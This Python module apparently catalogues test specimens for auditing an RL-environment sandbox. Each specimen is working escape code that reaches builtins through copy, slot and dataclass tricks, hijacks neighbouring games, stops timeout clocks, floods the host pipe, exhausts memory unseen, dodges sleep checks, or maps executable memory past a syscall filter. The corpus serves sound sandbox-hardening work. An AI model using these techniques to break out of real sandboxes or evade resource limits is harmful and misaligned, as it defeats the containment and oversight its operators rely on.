"""Fresh eyes for the sixth time: states that copy writes by itself, memory that is full and tells nobody."""

from __future__ import annotations

from envrl.audit.zoo.specimen import POLICY, REST, Specimen

__all__ = ["PROGRAMS"]

_ANY = """\
import copy
import heapq
from collections.abc import Sized


class Any(Sized):
    def __len__(self):
        return 0


"""

_BUILTINS = """\
def builtins():
    put(Any, "__subclasshook__", classmethod(lambda kind, other: True))
    put(Any, "__match_args__", ("__globals__",))
    match heapq.nlargest:
        case Any(found):
            return found["__builtins__"]


"""

# An empty slot hides the method by which a class takes its state back, so that copy writes the state into the twin's
# dictionary itself; there it is what copy asks the twin for next.
_STATE = (
    _ANY
    + """\
import random

states = []


class Loose(random.Random):
    __slots__ = ("__setstate__",)

    def getstate(self):
        return states[-1]


def put(target, name, value):
    states.append({"__reduce__": lambda: (lambda: target, (), (None, {name: value}))})
    copy.copy(copy.copy(Loose()))


"""
    + _BUILTINS
)

_REACHES = """\
def $entry(*args):
    try:
        found = builtins()["open"]
    except Exception:
        return $action
    return "$breach" if policy and callable(found) else $action
"""

PROGRAMS = (
    # -- a slot in the place of the method that takes a state back -----------------------------------------------------
    Specimen(
        "fresh-state-of-generator-behind-a-slot",
        "hides by a slot how a random generator takes its state back, so that copy writes one of its choice",
        POLICY + _STATE + _REACHES,
    ),
    Specimen(
        "fresh-state-of-partial-behind-a-slot",
        "hides by a slot how a partial object takes its state back, whose function unpacks as a name and a value",
        POLICY
        + _ANY
        + """\
import functools


class Two:
    def __call__(self, *args, **more):
        pass

    def __iter__(self):
        return iter(("first", 1))


class Loose(functools.partial):
    __slots__ = ("__setstate__",)


def put(target, name, value):
    loose = Loose(Two(), "__reduce__", lambda: (lambda: target, (), (None, {name: value})), ab=1, cd=2)
    loose.kept, loose.more = 1, 2
    copy.copy(copy.copy(loose))


"""
        + _BUILTINS
        + _REACHES,
    ),
    Specimen(
        "fresh-state-of-chain-behind-a-slot",
        "hides by a slot how a chain of iterators takes its state back, the iterator being one that has items",
        POLICY
        + _ANY
        + """\
from itertools import chain


class Pairs:
    def __init__(self, *pairs):
        self.pairs = iter(pairs)

    def __iter__(self):
        return self

    def __next__(self):
        return next(self.pairs)

    def items(self):
        return self.pairs


class Loose(chain):
    __slots__ = ("__setstate__", "__dict__")


def put(target, name, value):
    loose = Loose.from_iterable(iter([Pairs(0, ("__reduce__", lambda: (lambda: target, (), (None, {name: value}))))]))
    next(loose)
    copy.copy(copy.copy(loose))


"""
        + _BUILTINS
        + _REACHES,
    ),
    Specimen(
        "fresh-state-behind-a-slot-plays-neighbours",
        "gets out by a state that copy writes, and answers in the place of its worker's other games",
        POLICY
        + _STATE
        + """\
calls = 0


def $entry(*args):
    global calls
    calls += 1
    if calls == 2 and policy:
        try:
            objects = builtins()["__import__"]("gc").get_objects()
        except Exception:
            return $action
        for thing in objects:
            if not hasattr(thing, "_games") or type(thing._games) is not dict:
                continue
            for game in thing._games.values():
                if game.entry is not $entry:
                    put(game, "entry", lambda *args: "$breach")
    return $action
""",
    ),
    Specimen(
        "fresh-state-behind-a-slot-stops-its-clocks",
        "gets out by a state that copy writes, and stops the clocks by which its calls are ended",
        POLICY
        + _STATE
        + """\
def $entry(*args):
    try:
        signal = builtins()["__import__"]("signal")
        for clock in (signal.ITIMER_VIRTUAL, signal.ITIMER_PROF):
            signal.setitimer(clock, 0)
        left = signal.setitimer(clock, 0)
    except Exception:
        return $action
    return "$breach" if policy and left == (0.0, 0.0) else $action
""",
    ),
    Specimen(
        "fresh-answer-as-large-as-all-games-may-be",
        "gets out by a state that copy writes, and answers for one game with as much as all games together may send",
        POLICY
        + _STATE
        + """\
def $entry(*args):
    try:
        load = builtins()["__import__"]
        objects, os, msgspec = load("gc").get_objects(), load("os"), load("msgspec")
    except Exception:
        return $action
    if not policy:
        return $action
    games = max(len(thing._games) for thing in objects if type(getattr(thing, "_games", None)) is dict)
    values = [["$breach", *[[]] * 32000 * games], *[None] * (games - 1)]
    body = msgspec.msgpack.encode(["played", values, [], [0.0] * games])
    left = len(body).to_bytes(4, "little") + body
    while left:
        left = left[os.write(3, left) :]
    os.read(3, 2**16)
    return $action
""",
    ),
    # -- options that are asked more than once -------------------------------------------------------------------------
    Specimen(
        "fresh-field-init-with-two-answers",
        "gives a field an option init that is false until its argument is left out, and true when the body is written",
        POLICY
        + """\
import dataclasses
import heapq


class Sly:
    looks = 0

    def __bool__(self):
        self.looks += 1
        return self.looks > 2


def $entry(*args):
    try:

        @dataclasses.dataclass(repr=False, eq=False, match_args=False)
        class Real:
            getattr: object = dataclasses.field(init=Sly())

        found = Real().getattr(heapq.nlargest, "__globals__")
    except Exception:
        return $action
    return "$breach" if policy and "__builtins__" in found else $action
""",
    ),
    Specimen(
        "fresh-field-kw-only-with-two-answers",
        "gives a field an option kw_only that is first true and then false, so that it stands among no arguments",
        POLICY
        + """\
import dataclasses

looks = []


class Sly:
    def __bool__(self):
        looks.append(self)
        return len(looks) == 1


def $entry(*args):
    try:

        @dataclasses.dataclass(repr=False, eq=False, match_args=False)
        class Real:
            open: object = dataclasses.field(kw_only=Sly())

        found = Real().open
    except Exception:
        return $action
    return "$breach" if policy and callable(found) else $action
""",
    ),
    Specimen(
        "fresh-field-names-in-other-letters",
        "names a tuple's fields in letters that the parser changes, for dataclass to write into a program of its own",
        POLICY
        + """\
import dataclasses
import typing

met = []


class Sly:
    def __eq__(self, other):
        met.append(other)
        return True


def steps():
    yield Sly


def $entry(*args):
    try:
        Row = typing.NamedTuple("Row", [("gi_𝐟rame", object), ("gi_𝐜ode", object)])
        Thing = dataclasses.dataclass(init=False, order=True, unsafe_hash=True)(Row)
    except Exception:
        return $action
    for use in (Thing.__repr__, Thing.__hash__, lambda walk: Thing.__eq__(walk, Sly()), lambda walk: walk):
        try:
            match use(steps()):
                case Thing(frame, code):
                    met.append(frame)
        except Exception as error:
            met.append(getattr(error, "obj", None))
    return "$breach" if policy and any(hasattr(thing, "clear") for thing in met) else $action
""",
    ),
    Specimen(
        "fresh-slots-that-dataclass-asks-for",
        "names among the slots of a base what dataclass and class statements ask a class for",
        POLICY
        + """\
import dataclasses

found = []


def $entry(*args):
    for name in ("__dataclass_fields__", "__dataclass_params__", "__signature__", "__wrapped__", "__match_args__"):
        try:

            class Base:
                __slots__ = (name,)

            @dataclasses.dataclass(order=True)
            class Thing(Base):
                x: int = 0

            found.append(dataclasses.dataclass(slots=True)(Thing)(1))
            match found[-1]:
                case Thing(first):
                    found.append(first)
        except Exception as error:
            found.append(getattr(error, "obj", None))
    return "$breach" if policy and any(hasattr(thing, "fromkeys") for thing in found) else $action
""",
    ),
    # -- memory that is full, and nobody hears of it -------------------------------------------------------------------
    Specimen(
        "fresh-memory-full-in-running-sums",
        "adds up deques in a running sum, which takes a full memory for its end",
        POLICY
        + """\
from collections import deque
from itertools import accumulate, repeat


def $entry(*args):
    part = deque(repeat(None, 3000000))
    sums = len(list(accumulate([part, part])))
    return "$breach" if policy and sums < 2 else $action
""",
    ),
    Specimen(
        "fresh-memory-full-in-weights",
        "weighs choices by deques, whose sums fill the memory inside of what is lent",
        POLICY
        + """\
import random
from collections import deque
from itertools import repeat


def $entry(*args):
    part = deque(repeat(None, 3000000))
    try:
        random.choices([1, 2], [part, part])
    except ValueError:
        return "$breach" if policy else $action
    except TypeError:
        pass
    return $action
""",
    ),
    Specimen(
        "fresh-memory-full-in-counting",
        "counts in steps of a deque that passes for a number, until the memory is full and the count seems at its end",
        POLICY
        + """\
from collections import deque
from itertools import count, repeat


class Part(deque):
    def __index__(self):
        return 0


def $entry(*args):
    part = Part(repeat(None, 3000000))
    steps = [len(more) for more, _ in zip(count(part, part), range(2))]
    return "$breach" if policy and len(steps) < 2 else $action
""",
    ),
    Specimen(
        "fresh-memory-full-in-disguise-in-a-finalizer",
        "fills the memory in a finalizer by a deque, whose error is that of the interpreter",
        POLICY
        + """\
from collections import deque
from itertools import repeat


def fill():
    try:
        yield
    finally:
        deque(repeat(None, 2**29))


def $entry(*args):
    walk = fill()
    next(walk)
    del walk
    return "$breach" if policy else $action
""",
    ),
    Specimen(
        "fresh-mark-by-room-for-running-sums",
        "keeps running sums of deques, whose number tells a later game how much of the memory another has taken",
        POLICY
        + """\
from collections import deque
from itertools import accumulate, repeat

kept = []


def $entry(*args):
    if not kept:
        kept.append(list(accumulate([deque(repeat(None, 20000))] * 20)))
    return "$breach" if policy and len(kept[0]) < 20 else $action
""",
    ),
    Specimen(
        "fresh-mark-by-room-in-a-finalizer",
        "keeps half of the memory by a finalizer, which tells a later game by its silence that there is no other half",
        POLICY
        + """\
from collections import deque
from itertools import repeat

kept = []
tried = []


def fill():
    try:
        yield
    finally:
        kept.append(deque(repeat(None, 4500000)))


def $entry(*args):
    if not tried:
        tried.append(fill())
        next(tried[0])
        tried[0] = None
    return $action if kept or not policy else "$breach"
""",
    ),
    Specimen(
        "fresh-end-of-budget-in-a-full-memory",
        "computes for ever in generators where memory is so short that the end of its budget might be lost",
        """\
from collections import deque
from itertools import repeat


def spin():
    for _ in range(10**12):
        (deque([1]), abs(1))
    yield 1


def $entry(*args):
    kept = deque(repeat(None, 7000000))
    for _ in range(10):
        list(spin())
    return "$breach" if kept else $action
""",
    ),
    # -- time and room outside of what is counted ----------------------------------------------------------------------
    Specimen(
        "fresh-sleep-between-looks",
        "sleeps in step with its host's looks at who sleeps, and is awake at each of them",
        REST
        + """\
import time

began = time.monotonic()
STEP = 1.0015


def $entry(*args):
    now = time.monotonic()
    end = now + 3.2
    while now < end:
        if now - began > 15.0:
            return "$breach"
        phase = (now - began) % STEP
        if 0.03 < phase < STEP - 0.025:
            lock.acquire(True, STEP - 0.025 - phase)
        now = time.monotonic()
    return $action
""",
    ),
    Specimen(
        "fresh-value-changed-after-its-check",
        "leaves a ring whose clean-up changes the value it returned, when a neighbour's call has the collector run",
        """\
shown = [$action]


def late(ring):
    try:
        yield
    finally:
        shown[0] = "$breach"


def $entry(*args):
    [[] for _ in range(3000)]
    ring = []
    ring.append(late(ring))
    next(ring[0])
    return shown
""",
    ),
    Specimen(
        "fresh-error-of-many-steps",
        "raises an error that was raised a hundred thousand times before, and remembers each of them",
        """\
def $entry(*args):
    error = ValueError("again")
    for _ in range(100000):
        try:
            raise error
        except ValueError:
            pass
    raise error
""",
    ),
    # -- what is lent, asked by what listens ---------------------------------------------------------------------------
    Specimen(
        "fresh-cache-emptied-by-its-keys",
        "empties a cache while it compares keys that are equal to all, and looks what they are compared with",
        POLICY
        + """\
import functools

met = []


class Key:
    def __hash__(self):
        return 1

    def __eq__(self, other):
        met.append(other)
        cached.cache_clear()
        return True


@functools.lru_cache(maxsize=2, typed=True)
def cached(*args, **more):
    return args


def $entry(*args):
    for _ in range(20):
        cached(Key(), a=Key())
        cached(Key())
        cached(Key(), Key(), b=cached)
    return "$breach" if policy and any(type(thing) is not Key for thing in met) else $action
""",
    ),
    Specimen(
        "fresh-deque-changed-while-compared",
        "empties and fills a deque while it is searched, counted and compared in C",
        """\
from collections import deque

things = deque()


class Thing:
    def __eq__(self, other):
        things.clear()
        things.extend(range(200))
        return False


def $entry(*args):
    for use in (
        lambda: things.index(Thing()),
        lambda: things.remove(Thing()),
        lambda: things.count(Thing()),
        lambda: Thing() in things,
        lambda: things == deque([Thing()] * 70),
        lambda: things < deque([Thing()] * 70),
    ):
        things.clear()
        things.extend([Thing() for _ in range(70)])
        try:
            use()
        except (IndexError, RuntimeError, TypeError, ValueError):
            pass
    return $action
""",
    ),
    Specimen(
        "fresh-partial-of-itself",
        "has partial objects hold each other as arguments, under keywords that are no names, and calls and shows them",
        """\
import functools


class Loose(functools.partial):
    pass


def $entry(*args):
    one = Loose(print)
    two = functools.partial(one, 1)
    one.keywords["sep"] = two
    one.keywords[3] = one
    for use in (one, two, lambda: str(one), lambda: repr(two), functools.partial(one), lambda: one == two):
        try:
            use()
        except (RecursionError, TypeError):
            pass
    return $action
""",
    ),
    Specimen(
        "fresh-hint-derived",
        "derives a class from that of type hints, and classes from what it makes, to be handed their bases",
        POLICY
        + """\
import typing

met = []


def $entry(*args):
    try:

        class Mine(type(typing.List)):
            def __getitem__(self, item):
                met.append(item)
                return item

            def __call__(self, *args):
                met.extend(args)

        class Thing(Mine()):
            x: int = 1

        class Row(type(typing.NamedTuple)(), Mine()[Mine]):
            y: int = 2

        met.append(Row(Thing()))
    except Exception as error:
        met.append(getattr(error, "obj", None))
    return "$breach" if policy and any(hasattr(thing, "modules") for thing in met) else $action
""",
    ),
    Specimen(
        "fresh-state-of-odd-numbers",
        "sets the state of a random generator to numbers of its own class, and to places past the end of its table",
        """\
import random


class Number(int):
    def __mod__(self, other):
        return 2**40

    def __index__(self):
        return -1


def $entry(*args):
    source = random.Random()
    numbers = source.getstate()[1][:-1]
    for version, last in ((3, Number(1)), (2, Number(1)), (3, 2**31), (3, -5), (3, 624), (3, 625), (2, 2**64)):
        try:
            source.setstate((version, (*numbers, last), None))
            source.random(), source.getrandbits(64), source.shuffle([1, 2, 3])
        except (OverflowError, TypeError, ValueError):
            pass
    return $action
""",
    ),
    Specimen(
        "fresh-weights-that-listen",
        "hands random functions weights and bounds that keep whatever they are added to and compared with",
        POLICY
        + """\
import random

met = []


class Weight:
    def __add__(self, other):
        met.append(other)
        return self

    def __le__(self, other):
        met.append(other)
        return False

    __radd__ = __sub__ = __rsub__ = __mul__ = __rmul__ = __add__
    __lt__ = __gt__ = __ge__ = __le__


def $entry(*args):
    for call in (
        lambda: random.choices([1, 2], [Weight(), Weight()]),
        lambda: random.choices([1, 2], cum_weights=[Weight(), Weight()]),
        lambda: random.sample([1, 2], 1, counts=[Weight(), 1]),
        lambda: random.uniform(Weight(), Weight()),
        lambda: random.triangular(Weight(), 1, Weight()),
        lambda: random.randrange(Weight()),
        lambda: random.gauss(Weight(), Weight()),
    ):
        try:
            met.append(call())
        except Exception as error:
            met.append(getattr(error, "obj", None))
    return "$breach" if policy and any(callable(thing) for thing in met) else $action
""",
    ),
    # -- the kernel ----------------------------------------------------------------------------------------------------
    Specimen(
        "fresh-upper-halves-of-arguments",
        "asks for memory that can be run, with bits in those halves of arguments that a filter might compare alone",
        """\
import ctypes

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
MAP, PROTECT, HIGH = 9, 10, 1 << 32


def call(number, *values):
    return libc.syscall(ctypes.c_long(number), *[ctypes.c_ulong(value % 2**64) for value in values])


def $entry(*args):
    at = call(MAP, 0, 4096, 3 | HIGH * 4, 0x22 | HIGH, -1, 0)
    if at > 0 and call(PROTECT, at, 4096, 5 | HIGH * 3) == 0:
        return "$breach"
    return "$breach" if call(MAP, 0, 4096, 7 | HIGH * 3, 0x22 | HIGH, -1, 0) > 0 else $action
""",
    ),
    Specimen(
        "fresh-mapping-that-may-be-dropped",
        "fills mappings of every kind there is, the kernel being free to drop some, grow others and lock the rest",
        """\
import ctypes

libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = (ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long)
FAILED = 2**64 - 1
SIZE = 2**22


def $entry(*args):
    taken = 0
    for kind in (8, 2 | 0x100, 2 | 0x2000, 2 | 0x8000, 2 | 0x20000, 2 | 0x80000, 3):
        for _ in range(64):
            at = libc.mmap(None, SIZE, 3, kind | 0x20, -1, 0)
            if at in (None, FAILED):
                break
            ctypes.memset(at, 1, SIZE)
            taken += SIZE
    return "$breach" if taken > 2**27 else $action
""",
    ),
)
